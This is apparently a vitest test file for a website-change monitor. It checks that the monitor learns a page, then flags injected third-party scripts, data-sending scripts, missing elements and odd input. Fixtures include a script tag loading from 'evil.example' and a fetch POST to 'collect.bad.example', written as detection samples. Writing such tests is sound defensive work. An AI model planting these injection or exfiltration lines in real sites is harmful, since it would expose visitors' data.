import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { pageSource } from '../../../electron/engine/sources/page.ts'
import type { PageState } from '../../../electron/engine/sources/page-memory.ts'
import { type AdapterDesk, openAdapterDesk } from '../../poll-adapter.ts'
import { type Answer, startHttpServer, type TestServer } from '../../servers/http-server.ts'

let server: TestServer
let desk: AdapterDesk
let state: PageState | undefined
let answers: { key: string; answer: 'mine'; at: number }[]
let scriptBody = 'window.visits = 1;'

beforeEach(async () => {
  server = await startHttpServer({
    '/own.js': () => ({ headers: { 'content-type': 'text/javascript' }, body: scriptBody }),
  })
  desk = openAdapterDesk()
  state = undefined
  answers = []
  scriptBody = 'window.visits = 1;'
})
afterEach(async () => {
  await desk.close()
  await server.close()
})

const text = 'The old kettle on the shelf still works and sings when the water is hot enough. '

function html(more = '', title = 'Blue Kettle'): Answer {
  const body = `<!doctype html><html lang="en"><head><title>${title}</title><script src="/own.js"></script></head>
<body><header><a href="/">Blue Kettle</a><nav><a href="/about">About</a> <a href="/archive">Archive</a></nav></header>
<main><h1>Notes</h1><article><h2>On kettles</h2><p>${text}</p><p>Second: ${text}</p></article>
<form action="/comment" method="post" id="reply"><textarea name="text"></textarea><input type="hidden" name="nonce" value="${Math.random()}"></form>
</main>${more}<footer><p>Written by one person since 2009.</p></footer></body></html>`
  return { headers: { 'content-type': 'text/html' }, body }
}

async function look(answer: Answer, settings: Record<string, unknown> = {}, minutes = 30) {
  desk.clock.advance(minutes * 60_000)
  server.route('/', answer)
  const result = await desk.poll(pageSource, { url: `${server.url}/`, answers, ...settings }, state)
  state = result.state as PageState
  return { ...result, state }
}

async function learn(settings: Record<string, unknown> = {}): Promise<void> {
  for (let looks = 0; looks < 5; looks++) await look(html(), settings)
}

const evil = '<script src="https://evil.example/x.js"></script>'

describe('a page', () => {
  it('is learned by five looks that come fast, then known', async () => {
    const first = await look(html())
    expect(first.againIn).toBe(300_000)
    expect(first.items.map(({ title }) => title)).toEqual(['Test source is being learned'])
    for (let looks = 0; looks < 3; looks++) expect((await look(html())).items).toEqual([])
    const last = await look(html())
    expect(last.items.map(({ title }) => title)).toEqual(['Test source is known now'])
    expect(last.againIn).toBeUndefined()
    expect(last.site?.verdict).toBe('up')
    expect((await look(html())).items).toEqual([])
  })

  it('with a stranger’s script in it rings at once, is not learned, and is well when that is gone', async () => {
    await learn()
    const bad = await look(html(evil))
    expect(bad.site).toMatchObject({ verdict: 'down', check: { outcome: 'failure' } })
    expect(bad.items).toMatchObject([{ needs: 'look', title: expect.stringContaining('evil.example') }])
    expect(bad.items[0]?.text).toMatch(/Expected: .*\nInstead: .*evil\.example\/x\.js.*\nSince /)
    for (let looks = 0; looks < 8; looks++) expect((await look(html(evil))).site?.verdict).toBe('down')
    const well = await look(html())
    expect(well.site?.verdict).toBe('up')
    expect(well.items[0]?.title).toContain('is as it should be again')
    expect((await look(html(evil))).site?.verdict).toBe('down')
  })

  it('takes what the person answered for the new normal, once', async () => {
    await learn()
    const { state: bad } = await look(html(evil))
    answers = bad.open.map(({ key }) => ({ key, answer: 'mine', at: desk.clock.now() }))
    expect((await look(html(evil))).site?.verdict).toBe('up')
    expect((await look(html())).site?.verdict).toBe('up')
    expect((await look(html('<script src="https://other.example/y.js"></script>'))).site?.verdict).toBe(
      'down',
    )
  })

  it('that was answered to be empty for once rings when it is empty again', async () => {
    await learn()
    const empty = { headers: { 'content-type': 'text/html' }, body: '' }
    const { state: bad } = await look(empty)
    answers = bad.open.map(({ key }) => ({ key, answer: 'mine', at: desk.clock.now() }))
    expect((await look(empty)).site?.verdict).toBe('up')
    await learn()
    expect((await look(empty)).site?.verdict).toBe('down')
  })

  it('tells a change that is none of these as an item with its difference, without an alarm', async () => {
    await learn()
    const changed = await look(html('<p>We are closed on Monday, for once.</p>'))
    expect(changed.site?.verdict).toBe('up')
    expect(changed.items).toMatchObject([{ needs: 'nothing' }])
    expect(changed.items[0]?.text).toContain('+ We are closed on Monday, for once.')
    expect((await look(html('<p>We are closed on Monday, for once.</p>'))).items).toEqual([])
  })

  it('leaves an ignored part out, but for scripts in it', async () => {
    const settings = { ignored: ['aside.box'] }
    await learn(settings)
    const other = await look(
      html('<aside class="box"><p>Seven words that nobody saw before today.</p></aside>'),
      settings,
    )
    expect(other.items).toEqual([])
    expect((await look(html(`<aside class="box">${evil}</aside>`), settings)).site?.verdict).toBe('down')
  })

  it('misses a part that must be there, and finds words that must not', async () => {
    const settings = { mustHave: '#reply', mustNotHave: 'casino' }
    await learn(settings)
    expect((await look(html('<p>Casino</p>'), settings)).site?.check.reason).toContain('casino')
    const without = { ...html(), body: String(html().body).replace('id="reply"', '') }
    expect((await look(without, settings)).site).toMatchObject({ verdict: 'degraded' })
  })

  it('that was found bad at the first look is not learned silently', async () => {
    const first = await look({
      headers: { 'content-type': 'text/html' },
      body: `<title>x</title>${'#'.repeat(5000)}`,
    })
    expect(first.site?.verdict).toBe('down')
    expect(first.state.profile).toBeUndefined()
  })

  it('says nothing of a server that fails or a machine that is offline, and rings for a page that is gone', async () => {
    await learn()
    const failing = await look({ status: 503, body: 'Busy' })
    expect(failing.site).toMatchObject({ verdict: 'up', check: { outcome: 'unknown' } })
    await server.refuse()
    const offline = await desk.poll(pageSource, { url: `${server.url}/` }, state, {
      isReachable: async () => false,
    })
    expect(offline.site?.check).toMatchObject({
      outcome: 'unknown',
      reason: expect.stringContaining('offline'),
    })
    await server.restart()
    expect((await look({ status: 404, body: 'gone' })).site?.verdict).toBe('down')
    expect((await look(html())).site?.verdict).toBe('up')
  })
})

describe('scripts', () => {
  it('are fetched, and another content is told', async () => {
    await learn()
    const stem = Object.keys(state?.inventory.scripts ?? {})[0] ?? ''
    expect(stem).toContain('own')
    expect(state?.inventory.scripts[stem]?.hash).toMatch(/^[\da-f]{64}$/)
    scriptBody = 'window.visits = 2; console.log("two")'
    const changed = await look(html(), {}, 120)
    expect(changed.items).toMatchObject([{ needs: 'look', title: expect.stringContaining('own') }])
    expect(changed.site?.verdict).toBe('up')
  })

  it('of the site itself that begin to send data elsewhere ring until that is answered', async () => {
    await learn()
    scriptBody = 'window.visits = 1; fetch("https://collect.bad.example/k", {method: "POST"})'
    const changed = await look(html(), {}, 120)
    expect(changed.site).toMatchObject({ verdict: 'down' })
    expect(changed.items[0]?.text).toContain('collect.bad.example')
    expect((await look(html(), {}, 10)).site?.verdict).toBe('down')
    answers = changed.state.open.map(({ key }) => ({ key, answer: 'mine', at: desk.clock.now() }))
    expect((await look(html(), {}, 10)).site?.verdict).toBe('up')
    expect((await look(html(), {}, 120)).site?.verdict).toBe('up')
  })

  it('that make visitors wait are named by their host', async () => {
    await learn()
    server.route('/own.js', () => ({ body: scriptBody, delay: 3100 }))
    const slow = await look(html(), {}, 120)
    expect(slow.items).toMatchObject([
      { needs: 'look', title: expect.stringContaining('keeps visitors waiting') },
    ])
    expect(slow.items[0]?.title).toContain('127.0.0.1')
  })

  it('that cannot be fetched hold nothing up and are left alone', async () => {
    await look(html('<script src="http://127.0.0.1:9/x.js"></script>'))
    const party = state?.inventory.parties['127.0.0.1:9']
    expect(party?.trouble).toBeDefined()
    expect(party?.restUntil).toBeGreaterThan(desk.clock.now())
  })
})

describe('bad input', () => {
  it.each([
    ['endless', { endless: true, body: '<div>and so on '.repeat(1000) }],
    ['deep', { body: '<div>'.repeat(300_000) }],
    ['wide', { body: `<p ${'a=b '.repeat(500_000)}>` }],
    [
      'of the wrong charset',
      { headers: { 'content-type': 'text/html; charset=utf-16' }, body: 'caf\u00e9 <p>' },
    ],
    ['binary', { body: new Uint8Array(200_000).map((_, at) => at * 7) }],
    [
      'full of scripts',
      { body: Array.from({ length: 3000 }, (_, at) => `<script>f${at}(g.h${at}("x"))</script>`).join('') },
    ],
  ] satisfies [string, Answer][])('a page that is %s is judged within its limits', async (_name, answer) => {
    const seen = await look({ headers: { 'content-type': 'text/html' }, ...answer })
    expect(['up', 'degraded', 'down']).toContain(seen.site?.verdict)
    await learn()
    const again = await look({ headers: { 'content-type': 'text/html' }, ...answer })
    expect(again.site?.verdict).not.toBe('unknown')
    expect(JSON.stringify(again.state).length).toBeLessThan(300_000)
  })
})
